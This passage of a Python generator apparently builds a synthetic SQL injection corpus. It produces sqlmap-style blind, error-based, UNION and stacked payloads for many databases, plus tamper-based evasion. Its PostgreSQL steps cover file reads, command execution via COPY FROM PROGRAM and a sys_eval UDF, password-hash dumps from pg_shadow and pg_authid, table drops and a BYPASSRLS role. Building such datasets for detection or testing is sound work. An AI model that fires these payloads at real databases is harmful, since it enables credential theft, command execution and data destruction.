            CWd = lambda then: "(CASE WHEN (%s) THEN %s ELSE %d END)" % (INF, then, R) if vector else then
            out = [(B, "IBM DB2 boolean-based blind - ORDER BY clause", "order", 1, ",(SELECT CASE WHEN %s THEN 1 ELSE RAISE_ERROR(70001, %s) END FROM SYSIBM.SYSDUMMY1)" % (INF, q(S4)), False),
                   (B, "IBM DB2 boolean-based blind - ORDER BY clause (original value)", "order", 1, ",(SELECT CASE WHEN %s THEN {orig} ELSE RAISE_ERROR(70001, %s) END FROM SYSIBM.SYSDUMMY1)" % (INF, q(S4)), False),
                   (TB, "IBM DB2 AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, CWd(heavy)), False),
                   (TB, "IBM DB2 OR time-based blind (heavy query)", "cond", 2, "OR %d=%s" % (R, CWd(heavy)), False),
                   (TB, "IBM DB2 time-based blind - Parameter replace (heavy query)", "repl", 3, CWd(heavy), False),
                   (EB, "IBM DB2 OR error-based - WHERE or HAVING clause", "cond", 2, "OR %d=RAISE_ERROR(%s,%s||(%s)||%s)" % (R, q("70001"), D1, QRY, D2), False),
                   (EB, "IBM DB2 error-based - ORDER BY clause", "order", 1, ",RAISE_ERROR(%s,%s||(%s)||%s)" % (q("70001"), D1, QRY, D2), False),
                   (EB, "IBM DB2 error-based - Parameter replace", "repl", 3, "RAISE_ERROR(%s,%s||(%s)||%s)" % (q("70001"), D1, QRY, D2), False),
                   (SQ, "IBM DB2 stacked queries (heavy query - comment)", "stack", 1, ";SELECT %s" % (CWd(heavy)[1:-1] if not vector else CWd(heavy)), True),
                   (SQ, "IBM DB2 stacked queries (heavy query)", "stack", 1, ";SELECT %s" % (CWd(heavy)[1:-1] if not vector else CWd(heavy)), False)]
        elif dbms == "SQLite":
            hv = "LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%d00000000/2))))" % SLEEP
            out = [(B, "SQLite AND boolean-based blind - WHERE or HAVING clause (JSON)", "cond", 1, "AND CASE WHEN %s THEN %d ELSE JSON(CHAR(%d)) END" % (INF, R, r.randint(65, 90)), False),
                   (B, "SQLite OR boolean-based blind - WHERE or HAVING clause (JSON)", "cond", 2, "OR CASE WHEN %s THEN %d ELSE JSON(CHAR(%d)) END" % (INF, R, r.randint(65, 90)), False),
                   (TB, "SQLite > 2.0 AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, hv if not vector else "(CASE WHEN (%s) THEN (%s) ELSE %d END)" % (INF, hv, R)), False),
                   (TB, "SQLite > 2.0 OR time-based blind (heavy query - comment)", "cond", 2, "OR %d=%s" % (R, hv if not vector else "(CASE WHEN (%s) THEN (%s) ELSE %d END)" % (INF, hv, R)), True),
                   (TB, "SQLite > 2.0 time-based blind - Parameter replace (heavy query)", "repl", 3, "(SELECT %s)" % (hv if not vector else "(CASE WHEN (%s) THEN (%s) ELSE %d END)" % (INF, hv, R)), False),
                   (SQ, "SQLite > 2.0 stacked queries (heavy query - comment)", "stack", 1, ";SELECT %s" % (hv if not vector else "(CASE WHEN (%s) THEN (%s) ELSE %d END)" % (INF, hv, R)), True)]
        elif dbms == "Firebird":
            heavy = "(SELECT COUNT(*) FROM RDB$FIELDS AS T1,RDB$TYPES AS T2,RDB$COLLATIONS AS T3,RDB$FUNCTIONS AS T4)"
            hv = heavy if not vector else "IIF((%s),%s,%d)" % (INF, heavy, R)
            out = [(TB, "Firebird >= 2.0 AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, hv), False),
                   (TB, "Firebird >= 2.0 OR time-based blind (heavy query - comment)", "cond", 2, "OR %d=%s" % (R, hv), True),
                   (TB, "Firebird time-based blind - Parameter replace (heavy query)", "repl", 3, hv if vector else heavy, False),
                   (EB, "Firebird AND error-based - WHERE or HAVING clause", "cond", 1, "AND %d=(%s||(%s)||%s)" % (R, D1, QRY, D2), False),
                   (EB, "Firebird OR error-based - WHERE or HAVING clause", "cond", 2, "OR %d=(%s||(%s)||%s)" % (R, D1, QRY, D2), False),
                   (EB, "Firebird error-based - Parameter replace", "repl", 3, "(SELECT %s||(%s)||%s FROM RDB$DATABASE)" % (D1, QRY, D2), False),
                   (EB, "Firebird error-based - ORDER BY clause", "order", 1, ",(SELECT %d FROM RDB$DATABASE WHERE %d=(%s||(%s)||%s))" % (R, R, D1, QRY, D2), False),
                   (SQ, "Firebird stacked queries (heavy query)", "stack", 1, ";SELECT %s FROM RDB$DATABASE" % hv, False),
                   (IQ, "Firebird inline queries", "repl", 3, "(SELECT %s||(%s)||%s FROM RDB$DATABASE)" % (D1, QRY, D2), False)]
        elif dbms == "Informix":
            heavy = "(SELECT COUNT(*) FROM SYSMASTER:SYSPAGHDR)"
            hv = heavy if not vector else "(CASE WHEN (%s) THEN %s ELSE %d END)" % (INF, heavy, R)
            out = [(B, "Informix boolean-based blind - Parameter replace", "repl", 3, "(SELECT (CASE WHEN (%s) THEN %d ELSE 1/0 END) FROM SYSMASTER:SYSDUAL)" % (INF, R), False),
                   (B, "Informix boolean-based blind - Parameter replace (original value)", "repl", 3, "(SELECT (CASE WHEN (%s) THEN {orig} ELSE 1/0 END) FROM SYSMASTER:SYSDUAL)" % INF, False),
                   (TB, "Informix AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, hv), False),
                   (TB, "Informix AND time-based blind (heavy query - comment)", "cond", 1, "AND %d=%s" % (R, hv), True),
                   (TB, "Informix OR time-based blind (heavy query - comment)", "cond", 2, "OR %d=%s" % (R, hv), True),
                   (TB, "Informix time-based blind - Parameter replace (heavy query)", "repl", 3, hv, False)]
        elif dbms == "SAP MaxDB":
            heavy = "(SELECT COUNT(*) FROM DOMAIN.DOMAINS AS T1,DOMAIN.COLUMNS AS T2,DOMAIN.TABLES AS T3)"
            out = [(B, "SAP MaxDB boolean-based blind - ORDER BY, GROUP BY clause", "order", 1, ",(CASE WHEN %s THEN 1 ELSE NULL END)" % INF, False),
                   (B, "SAP MaxDB boolean-based blind - ORDER BY, GROUP BY clause (original value)", "order", 1, ",(CASE WHEN %s THEN {orig} ELSE NULL END)" % INF, False),
                   (B, "SAP MaxDB boolean-based blind - Stacked queries", "stack", 1, ";SELECT CASE WHEN %s THEN 1 ELSE NULL END" % INF, True),
                   (TB, "SAP MaxDB AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, heavy), False),
                   (TB, "SAP MaxDB OR time-based blind (heavy query - comment)", "cond", 2, "OR %d=%s" % (R, heavy), True),
                   (TB, "SAP MaxDB time-based blind - Parameter replace (heavy query)", "repl", 3, heavy, False),
                   (SQ, "SAP MaxDB stacked queries (heavy query)", "stack", 1, ";SELECT %s" % heavy[1:-1], False),
                   (SQ, "SAP MaxDB stacked queries (heavy query - comment)", "stack", 1, ";SELECT %s" % heavy[1:-1], True)]
        elif dbms == "Microsoft Access":
            out = [(B, "Microsoft Access boolean-based blind - ORDER BY, GROUP BY clause", "order", 1, ",IIF(%s,1,1/0)" % INF, False),
                   (B, "Microsoft Access boolean-based blind - ORDER BY, GROUP BY clause (original value)", "order", 1, ",IIF(%s,{orig},1/0)" % INF, False),
                   (B, "Microsoft Access boolean-based blind - Parameter replace (original value)", "repl", 3, "IIF(%s,{orig},1/0)" % INF, False),
                   (B, "Microsoft Access boolean-based blind - Stacked queries", "stack", 1, ";IIF(%s,1,1/0)" % INF, True)]
        elif dbms == "ClickHouse":
            fb = "(SELECT COUNT(fuzzBits(%s, 0.001)) FROM numbers(%s))" % (q(S4), "%d000000" % SLEEP if not vector else "if((%s), %d000000, 1)" % (INF, SLEEP))
            se = "(SELECT count() FROM numbers(%d) WHERE sleepEachRow(%s)=0 SETTINGS max_block_size=1)" % (SLEEP, "1" if not vector else "if((%s),1,0)" % INF)
            out = [(TB, "ClickHouse AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, fb), False),
                   (TB, "ClickHouse OR time-based blind (heavy query)", "cond", 2, "OR %d=%s" % (R, fb), False),
                   (TB, "ClickHouse AND time-based blind (sleepEachRow)", "cond", 1, "AND %d=%s" % (R, se), False),
                   (TB, "ClickHouse OR time-based blind (sleepEachRow)", "cond", 2, "OR %d=%s" % (R, se), True),
                   (EB, "ClickHouse AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (getSetting)", "cond", 1, "AND %d=getSetting(%s||CAST((%s) AS String)||%s)" % (R, D1, QRY, D2), False)]
        elif dbms == "H2":
            out = [(EB, "H2 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (CAST)", "cond", 1, "AND %d=ROTATELEFT(CAST(%s||(%s)||%s AS INT),1)" % (R, D1, QRY, D2), False),
                   (EB, "H2 OR error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (CAST)", "cond", 2, "OR %d=ROTATELEFT(CAST(%s||(%s)||%s AS INT),1)" % (R, D1, QRY, D2), False)]
        elif dbms == "InterSystems Cache":
            out = [(EB, "InterSystems Cache AND error-based - WHERE or HAVING clause", "cond", 1, "AND %d=TO_POSIXTIME(TO_DATE(%s||(%s)||%s,%s))" % (R, D1, QRY, D2, q("YYYY")), False),
                   (EB, "InterSystems Cache OR error-based - WHERE or HAVING clause", "cond", 2, "OR %d=TO_POSIXTIME(TO_DATE(%s||(%s)||%s,%s))" % (R, D1, QRY, D2, q("YYYY")), False)]
        elif dbms == "Cubrid":
            out = [(TB, "CUBRID AND time-based blind (SLEEP)", "cond", 1, "AND %d=(SELECT SLEEP(%d) FROM db_root)" % (R, SLEEP), False),
                   (TB, "CUBRID OR time-based blind (SLEEP)", "cond", 2, "OR %d=(SELECT SLEEP(%d) FROM db_root)" % (R, SLEEP), False),
                   (EB, "CUBRID AND error-based - WHERE or HAVING clause", "cond", 1, "AND %d=CAST(%s||(%s)||%s AS NUMERIC)" % (R, D1, QRY, D2), False)]
        elif dbms == "Virtuoso":
            out = [(EB, "Virtuoso AND error-based - WHERE or HAVING clause", "cond", 1, "AND %d=bit_shift(CAST(%s||(%s)||%s AS INTEGER),1)" % (R, D1, QRY, D2), False),
                   (EB, "Virtuoso OR error-based - WHERE or HAVING clause", "cond", 2, "OR %d=bit_shift(CAST(%s||(%s)||%s AS INTEGER),1)" % (R, D1, QRY, D2), False)]
        elif dbms == "MonetDB":
            out = [(EB, "MonetDB AND error-based - WHERE or HAVING clause", "cond", 1, "AND %d=(SELECT ms_trunc(CAST(%s||CAST((%s) AS VARCHAR)||%s AS DECIMAL),1))" % (R, D1, QRY, D2), False)]
        elif dbms == "Vertica":
            out = [(EB, "Vertica AND error-based - WHERE or HAVING clause", "cond", 1, "AND %d=CAST(%s||(%s)::VARCHAR||%s AS NUMERIC)" % (R, D1, QRY, D2), False)]
        elif dbms == "Presto":
            out = [(EB, "Presto AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (PARSE_DATA_SIZE)", "cond", 1, "AND %d=PARSE_DATA_SIZE(%s||(%s)||%s)" % (R, D1, QRY, D2), False)]
        elif dbms == "SAP HANA":
            heavy = "(SELECT COUNT(*) FROM SYS.OBJECTS AS T1,SYS.OBJECTS AS T2,SYS.OBJECTS AS T3 WHERE LOWER(T1.OBJECT_NAME)!=UPPER(T2.OBJECT_NAME))"
            out = [(TB, "SAP HANA AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, heavy), False),
                   (TB, "SAP HANA AND time-based blind (heavy query - comment)", "cond", 1, "AND %d=%s" % (R, heavy), True),
                   (TB, "SAP HANA time-based blind - Parameter replace (heavy query)", "repl", 3, heavy, False)]
    return [(f, t, dbms, p, w, pl, c) for f, t, p, w, pl, c in out]


# how often each other DBMS's tests are drawn (dev.jsonl's mix)
OTHER_DBMS = ["MySQL"] * 8 + ["Oracle"] * 4 + ["Microsoft SQL Server"] * 2 + ["HSQLDB"] * 3 + ["IBM DB2", "SAP MaxDB"] * 2 + ["SQLite", "Firebird", "Informix",
              "Microsoft Access", "ClickHouse", "H2", "InterSystems Cache", "Cubrid", "Virtuoso", "MonetDB", "Vertica", "Presto", "SAP HANA"]


def sqlmap_tests(r, vector):
    """[(family, title, dbms, place, where, payload, comment, tag)] -- place: cond | order | repl | stack; where: 1 original,
    2 negative, 3 replaced.  For each family either PostgreSQL's and the generic tests or another DBMS's, in dev's shares."""
    R, R1, R2 = randnum(r), randnum(r), randnum(r)
    SLEEP = r.choice([5, 5, 5, 5, 3, 10, 7])
    o = Enc(r)
    D1, D2 = o.s(delimiter(r)), o.s(delimiter(r))
    INF = pg_inference(r, o) if vector else r.choice(["%d=%d" % (R1, R1)] * 4 + ["%d=%d" % (R1, R2)])
    QRY = enumeration(r, o) if vector else "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R2, R2)
    tag = ":vector" if vector else ":payload"
    pgs = pg_tests(r, vector, o, R, R1, R2, SLEEP, INF, QRY, D1, D2)
    others = []
    for _ in range(3):
        others += other_tests(r, vector, o, R, R1, R2, SLEEP, r.choice(OTHER_DBMS))
    out = []
    for fam in (B, TB, EB, SQ, IQ):
        mine = [t for t in others if t[0] == fam]
        if mine and r.random() < NONPG_SHARE[fam]:
            out += mine
        else:
            out += [t for t in pgs if t[0] == fam]
    return [t + (tag,) for t in out]


def sqlmap_takeover(r):
    """(switch, stacked statements) of sqlmap's file-system and takeover steps on PostgreSQL."""
    oid = r.randint(10000, 99999)
    cmd = r.choice(CMDS)
    sp = r.choice([chrs, q, q])
    tbl = "sqlmapfile"
    return r.choice([
        ("--file-read (table create)", ";DROP TABLE IF EXISTS %s;CREATE TABLE %s(data text)" % (tbl, tbl)),
        ("--file-read (COPY)", ";COPY %s(data) FROM %s" % (tbl, sp(r.choice(FILES)))),
        ("--file-read (lo_import)", ";SELECT lo_import(%s,%d)" % (sp(r.choice(FILES)), oid)),
        ("--file-read (lo_get)", ";SELECT encode(lo_get(%d),%s)" % (oid, sp("base64"))),
        ("--file-write (lo_create)", ";SELECT lo_create(%d)" % oid),
        ("--file-write (pg_largeobject)", ";INSERT INTO pg_largeobject VALUES (%d,0,DECODE(%s,%s))" % (oid, sp(base64.b64encode(bytes(r.randrange(256) for _ in range(12))).decode()), sp("base64"))),
        ("--file-write (lo_export)", ";SELECT lo_export(%d,%s)" % (oid, sp("/tmp/libs%s.so" % rword(r, 5)))),
        ("--os-cmd (output table)", ";DROP TABLE IF EXISTS sqlmapoutput;CREATE TABLE sqlmapoutput(data text)"),
        ("--os-cmd (COPY FROM PROGRAM)", ";COPY sqlmapoutput(data) FROM PROGRAM %s" % sp(cmd)),
        ("--os-cmd (read output)", ";SELECT string_agg(data,%s) FROM sqlmapoutput" % sp(chr(10))),
        ("--os-cmd (cleanup)", ";DROP TABLE sqlmapoutput"),
        ("--os-pwn (udf sys_eval)", ";CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/libs%s.so','sys_eval' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % rword(r, 5)),
        ("--os-cmd (sys_eval)", ";SELECT sys_eval(%s)" % sp(cmd))])


def sqlmap_union(r, vector):
    n, pos, filler, cols, kw, rng, where = union_request(r, 50, 2, 4, 0.4)
    fname = {"NULL": "NULL"}.get(filler, "[RANDNUM]")
    if r.random() < 0.25:
        fname, rng = "[CHAR]", "[COLSTART] to [COLSTOP]" if r.random() < 0.5 else rng
        cols = [q(rstr(r, 1).lower())] * n if r.random() < 0.4 else cols
        rng = rng + (" columns (custom)" if rng.startswith("[") else " columns")
    else:
        rng = rng + " columns"
    if r.random() < 0.24:
        # MySQL's UNION tests: hex delimiters in CONCAT(), '#' comment
        marker = "CONCAT(%s,%s,%s)" % (hx(delimiter(r)), hx(rword(r, 12)), hx(delimiter(r))) if not vector else \
            "CONCAT(%s,IFNULL(CAST(%s AS NCHAR),0x20),%s)" % (hx(delimiter(r)), r.choice(MYSQL_EXPRS), hx(delimiter(r)))
        cols[pos] = marker
        return "MySQL UNION query (%s) - %s" % (fname, rng), "MySQL", "%s %s" % (kw, ",".join(cols)) + HASH, where
    o = Enc(r)
    m1, m2 = o.s(delimiter(r)), o.s(delimiter(r))
    x = r.randrange(6)
    if x == 0:
        return "Generic UNION query (%s) - %s (ORDER BY)" % (fname, rng), "generic", "ORDER BY %d" % r.randint(1, 50), 1
    if x == 1 or not vector:
        cols[pos] = "%s||%s||%s" % (m1, o.s(rword(r, 12)), m2)
        return "Generic UNION query (%s) - %s" % (fname, rng), "generic", "%s %s" % (kw, ",".join(cols)), where
    src = r.choice([("pg_user", ["usename"]), ("pg_shadow", ["usename", "passwd"]), ("pg_roles", ["rolname"]), ("pg_namespace", ["nspname"]), ("", ["current_database()"]),
                    ("", ["current_user"]), ("", ["version()"]), ("pg_database", ["datname"])] + [("public." + t, c) for t, c in sorted(DUMP.items())])
    cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in src[1]], m1, o.s(delimiter(r)), m2)
    tail = (" FROM %s" % src[0] if src[0] else "") + (r.choice(["", "", " OFFSET %d LIMIT 1" % r.randint(0, 40)]) if src[0] else "")
    return "Generic UNION query (%s) - %s" % (fname, rng), "generic", "%s %s%s" % (kw, ",".join(cols), tail), where


_COMMENT = []


def sqlmap_comment(r):
    """dev's spellings: --, -- -, -- and four lower-case letters (a MySQL test's is #)."""
    if _COMMENT:
        return _COMMENT[0]
    return r.choice(["--"] * 5 + ["-- -"] * 2 + ["-- %s" % rword(r, 4)] * 2 + ["--%s" % r.choice([" ", "+"])])


def sqlmap_value(r, si, orig, place, where, payload, need_comment):
    """The parameter value of one request (boundary_value), redrawn up to five times while the statement it makes
    would not get through PostgreSQL's parser (plausible: the brackets, quotes and comments do not balance), but kept
    as it is about once in ten times -- so that, as in dev.jsonl, most requests that reach the log parse."""
    val = None
    for _ in range(6):
        val = boundary_value(r, si, orig, place, where, payload, need_comment)
        if val is not None:
            val = tidy(val, si["type"])
        if val is None or plausible_fill(si, val) or r.random() < 0.1:
            return val
    return val


def boundary_value(r, si, orig, place, where, payload, need_comment):
    """The parameter value with a boundary: corpus_kit's (sqlmap_slot_value) for most requests, and for about one in
    seven of the condition, UNION and stacked ones the boundaries dev also has: ') AS xxxx WHERE n=n, ' WHERE n=n,
    '||(SELECT 'xxxx' FROM DUAL WHERE n=n ...)||', the same without FROM DUAL, '+(SELECT ...)+' and ' IN BOOLEAN MODE)."""
    del _COMMENT[:]
    if payload.endswith(HASH):
        payload = payload[:-1]
        _COMMENT.append("#")
    try:
        typ = si["type"]
        if place in ("cond", "union", "stack") and typ in ("q", "e", "n", "list") and r.random() < 0.15:
            if where == 2:
                orig = "-%d" % randnum(r) if typ in ("n", "list") or r.random() < 0.5 else ""
            payload = payload.replace("{orig}", orig if typ in ("n", "list") or not orig else q(orig))
            qc = "'" if typ in ("q", "e") else ""
            N, S4 = randnum(r), rstr(r)
            cmt = sqlmap_comment(r)
            kinds = ["as_where", "where", "boolmode"] + (["concat_dual", "concat", "plus"] if qc and place == "cond" else [])
            k = r.choice(kinds)
            sep = "" if place == "stack" else " "
            if k == "as_where":
                return orig + qc + ")" + " AS %s WHERE %d=%d" % (S4, N, N) + sep + payload + cmt
            if k == "where":
                return orig + qc + " WHERE %d=%d" % (N, N) + sep + payload + cmt
            if k == "boolmode":
                return orig + qc + " IN BOOLEAN MODE)" + sep + payload + (cmt if r.random() < 0.8 else "#")
            if k == "concat_dual":
                return orig + "'||(SELECT '%s' FROM DUAL WHERE %d=%d %s)||'" % (S4, N, N, payload)
            if k == "concat":
                return orig + "'||(SELECT '%s' WHERE %d=%d %s)||'" % (S4, N, N, payload)
            return orig + "'+(SELECT '%s' WHERE %d=%d %s)+'" % (S4, N, N, payload)
        return corpus_kit.sqlmap_slot_value(globals(), r, si, orig, place, where, payload, need_comment or bool(_COMMENT))
    finally:
        del _COMMENT[:]


SQL_WORDS = set("""SELECT FROM WHERE AND OR NOT UNION ALL CASE WHEN THEN ELSE END CAST AS NULL IS LIKE IN EXISTS ORDER BY GROUP HAVING LIMIT OFFSET
INSERT INTO VALUES UPDATE SET DELETE DROP TABLE CREATE FUNCTION RETURNS LANGUAGE COPY PROGRAM DISTINCT TEXT NUMERIC VARCHAR STRICT IF REPLACE
ASCII SUBSTRING LENGTH CHR COALESCE COUNT PG_SLEEP GENERATE_SERIES FOR CONCAT DECODE ENCODE SLEEP IIF ELT MID ORD""".split())


def tamper(r, name, s, typ):
    """Chains of tamper scripts, applied outside the payload's literals and comments: space2dash (a space becomes
    -- and random letters and a newline), randomcomments (/**/ inside keywords), uppercase, lowercase, bluecoat
    (a tab after a keyword, = as LIKE), informationschemacomment, between and multiplespaces."""
    if "," in name:
        for part in name.split(","):
            s = tamper(r, part, s, typ)
        return s
    outside = lambda fn: edit(s, typ, fn)
    if name == "space2dash":
        return outside(lambda t, i, n: re.sub(r" ", lambda m: "--%s\n" % rword(r, r.randint(3, 8)), t))
    if name == "randomcomments":
        def rc(m):
            w = m.group(0)
            if w.upper() not in SQL_WORDS or len(w) < 3:
                return w
            k = r.randint(1, len(w) - 1)
            return w[:k] + "/**/" + w[k:]
        return outside(lambda t, i, n: re.sub(r"[A-Za-z_]{3,}", rc, t))
    if name == "uppercase":
        return outside(lambda t, i, n: re.sub(r"[A-Za-z_]{2,}", lambda m: m.group(0).upper() if m.group(0).upper() in SQL_WORDS else m.group(0), t))
    if name == "lowercase":
        return outside(lambda t, i, n: re.sub(r"[A-Za-z_]{2,}", lambda m: m.group(0).lower() if m.group(0).upper() in SQL_WORDS else m.group(0), t))
    if name == "bluecoat":
        def bc(t, i, n):
            t = re.sub(r"\b(SELECT|AND|OR|UNION|FROM|WHERE) ", lambda m: m.group(1) + "\t", t)
            return re.sub(r"(?<![<>!:=])=(?![=>])", " LIKE ", t)
        return outside(bc)
    if name == "informationschemacomment":
        return outside(lambda t, i, n: re.sub(r"(?i)information_schema\.", "information_schema/**/.", t))
    if name == "multiplespaces":
        return outside(lambda t, i, n: re.sub(r"(?<=\S) (?=\S)", lambda m: " " * r.randint(1, 4), t))
    if name == "between":
        def btw(t, i, n):
            t = re.sub(r"(?i)\s*>\s*(\d+)", r" NOT BETWEEN 0 AND \1", t)
            return re.sub(r"(?<![<>!:=])=(\d+)", r" BETWEEN \1 AND \1", t)
        return outside(btw)
    raise KeyError(name)


TAMPERS = ["space2dash", "randomcomments", "uppercase", "lowercase", "bluecoat", "informationschemacomment,space2dash", "between,uppercase",
           "randomcomments,lowercase", "multiplespaces,bluecoat", "space2dash,between", "lowercase,multiplespaces"]

union_fits = corpus_kit.union_in_query

SQLMAP = corpus_kit.Sqlmap(tests=sqlmap_tests, union=sqlmap_union, takeover=sqlmap_takeover, value=sqlmap_value, tamper=tamper, tampers=TAMPERS,
                           union_fits=union_fits, misfit=corpus_kit.misfit_share(0.75), vector_share=0.47, takeover_share=0.08, tamper_share=0.06)


# ---------------------------------------------------------------- hand-written PostgreSQL techniques
# mode: cond (an AND/OR clause) | union (a UNION tail) | stack (statements
# after ;) | repl (a value in place of the input) | concat (spliced into the
# string with ||) | order (one more ORDER BY expression) | row (more rows
# after the VALUES row the slot sits in; the core is a function of the
# row's width) | assign (more assignments in an UPDATE's SET list; {col} is
# a column the attacker wants) | returning (a RETURNING list on the DML
# statement) | conflict (an ON CONFLICT clause after the VALUES row) | iexpr
# (a term added to an interval literal) | jkey (a JSON key closed and the
# select list extended).  Cores named stored_* are values saved through one
# form and replayed by a later statement; they go only into the templates
# that replay stored values.
def secs(r):
    return r.choice([3, 5, 5, 7, 9, 12, 16, 25])


DO_TAGS = ["$x21$", "$blk$", "$d21$", "$Ж2$", "$go$", "$$", "$ñ1$", "$u_u$", "$BODY21$", "$p$"]
OPEN_TAGS = ["$y21$", "$b$", "$ø1$", "$q_q$", "$$", "$w21$", "$Zz$", "$c$"]
# dollar tags an attacker tries when guessing how an application quotes its bodies
GUESSED_TAGS = ["$t21$", "$t$", "$$", "$text$", "$body$", "$str$", "$_$", "$x$"]


def plain(cmd):
    return cmd.replace("'", "").replace('"', "")


def row_of(first, rest="DEFAULT"):
    return lambda n: ", ".join([first] + [rest] * (n - 1))


def hand_cores(r, fam):
    a, b = r.randint(2, 99), r.randint(100, 9999)
    w, w2 = rword(r, r.randint(3, 7)), rword(r, r.randint(3, 6))
    s = secs(r)
    t, u, p, who = loot(r)
    e = target(r)
    x = "(%s)::text" % e
    host, ip, f, cmd = r.choice(HOSTS), r.choice(IPS), r.choice(FILES), r.choice(CMDS)
    nm = rword(r, r.randint(4, 7)) + str(r.randint(0, 99))
    oid = r.randint(20000, 89999)
    role = r.choice(ROLES)
    pe = probe(r)
    sq = lambda v: v.replace("'", "''")
    pc = plain(cmd)
    if fam == "tautology":
        return [(n, "cond", c, PG) for n, c in [
            ("or_1eq1", "OR 1=1"), ("or_num_eq", "OR %d=%d" % (a, a)), ("or_str_eq", "OR '%s'='%s'" % (w, w)), ("or_num_ne", "OR %d <> %d" % (a, b)),
            ("or_ge_self", "OR %d >= %d" % (b, b)), ("or_concat_eq", "OR '%s' || '%s' = '%s%s'" % (w, w2, w, w2)), ("or_not_distinct", "OR %d IS NOT DISTINCT FROM %d" % (a, a)),
            ("or_true_and_true", "OR (true AND true)"), ("or_array_overlap", "OR ARRAY[%d, %d] && ARRAY[%d]" % (a, b, b)), ("or_range_contains", "OR %d <@ int4range(0, %d)" % (a, b)),
            ("or_position", "OR position('%s' in '%s%s') > 0" % (w[:2], w, w2)), ("or_greatest", "OR greatest(%d, %d) = %d" % (a, b, b)), ("or_mod", "OR %d %% %d = %d" % (b, a, b % a)),
            ("or_date_past", "OR current_date > '2000-01-01'"), ("or_nullif", "OR nullif(%d, %d) = %d" % (a, b, a)), ("or_chr_eq", "OR chr(%d) = '%s'" % (65 + a % 26, chr(65 + a % 26))),
            ("or_yes_bool", "OR 'yes'::boolean"), ("or_not_in", "OR %d NOT IN (%d, %d)" % (a, b, b + 1)), ("or_ilike", "OR '%s' ILIKE '%s%%'" % (w.upper(), w[0])),
            ("or_jsonb_contains", "OR '{\"k\": %d}'::jsonb @> '{}'" % a), ("or_exists_class", "OR EXISTS (SELECT 1 FROM pg_class)"), ("or_between", "OR %d BETWEEN %d AND %d" % (a, a - 1, a + 1)),
            ("or_is_not_null", "OR %d IS NOT NULL" % a), ("or_char_length", "OR char_length('%s') = %d" % (w, len(w))), ("stored_or_1eq1", "OR 1=1"), ("stored_or_str_eq", "OR '%s'='%s'" % (w, w))]] + [
            ("set_where_true", "assign", "{col} = {col} WHERE 1=1", PG), ("set_or_exists", "assign", "{col} = DEFAULT WHERE EXISTS (SELECT 1)", PG)]
    if fam == "union":
        n = r.randint(1, 5)
        pos = r.randrange(n)
        arms = [("pg_authid", "rolname||':'||coalesce(rolpassword,'')", " FROM pg_authid"), ("pg_settings", "name||'='||setting", " FROM pg_settings"),
                ("pg_user_mappings", "srvname||' '||coalesce(array_to_string(umoptions,','),'')", " FROM pg_user_mappings"),
                ("pg_hba_file_rules", "type||' '||coalesce(address,'')", " FROM pg_hba_file_rules"), ("pg_proc", "proname", " FROM pg_proc WHERE prolang <> 12"),
                ("info_tables", "table_schema||'.'||table_name", " FROM information_schema.tables"), ("loot", "%s||':'||%s" % (u, p), " FROM %s" % t),
                ("inet_server", "inet_server_addr()::text||':'||inet_server_port()", ""), ("current_setting", "current_setting('data_directory')", ""),
                ("pg_available_extensions", "name||' '||coalesce(installed_version,'-')", " FROM pg_available_extensions"), ("pg_user", "usename||':'||usesuper", " FROM pg_user")]
        name, ex, frm = r.choice(arms)
        style = r.randrange(7)
        out = [("returning_loot", "returning", "RETURNING (SELECT string_agg(%s, ',') FROM %s)" % (p, t), PG),
               ("returning_user", "returning", "RETURNING current_user, inet_server_addr()", PG),
               ("stored_union_loot", "union", "UNION ALL SELECT %s FROM %s" % (nulls(n, pos, "%s||':'||%s" % (u, p)), t), PG)]
        if style == 0:
            return out + [("union_all_" + name, "union", "UNION ALL SELECT %s%s" % (nulls(n, pos, ex), frm), PG)]
        if style == 1:
            return out + [("union_distinct_" + name, "union", "UNION DISTINCT SELECT %s%s" % (nulls(n, pos, ex), frm), PG)]
        if style == 2:
            return out + [("union_values_" + name, "union", "UNION VALUES (%s)" % nulls(n, pos, "version()" if not frm else "(SELECT %s%s LIMIT 1)" % (ex, frm)), PG)]
        if style == 3:
            return out + [("union_limit_offset_" + name, "union", "UNION ALL (SELECT %s%s LIMIT 1 OFFSET %d)" % (nulls(n, pos, ex), frm, r.randint(0, 9)), PG)]
        if style == 4:
            return out + [("union_cast_text_" + name, "union", "UNION SELECT %s%s" % (nulls(n, pos, "(%s)::text" % ex), frm), PG)]
        if style == 5:
            return out + [("union_table_pg_user", "union", "UNION TABLE pg_user" if n == 1 else "UNION ALL SELECT %s FROM pg_user" % nulls(n, pos, "usename"), PG)]
        return out + [("union_mixed_case_" + name, "union", "UnIoN SeLeCt %s%s" % (nulls(n, pos, ex), frm), PG)]
    if fam == "stacked":
        return [(n, "stack", c, PG) for n, c in [
            ("drop_table", "DROP TABLE %s" % t), ("disable_triggers", "ALTER TABLE %s DISABLE TRIGGER ALL" % t), ("truncate_cascade", "TRUNCATE %s CASCADE" % t),
            ("delete_returning", "DELETE FROM %s RETURNING *" % t), ("update_secret", "UPDATE %s SET %s = md5('%s')" % (t, p, rword(r, 8))),
            ("insert_select_shadow", "INSERT INTO %s (%s, %s) SELECT usename, passwd FROM pg_shadow" % (t, u, p)),
            ("create_role_bypassrls", "CREATE ROLE %s LOGIN BYPASSRLS PASSWORD '%s'" % (nm, rword(r, 9))), ("alter_role_createrole", "ALTER ROLE %s CREATEROLE CREATEDB" % r.choice(["museum_owner", "current_user", nm])),
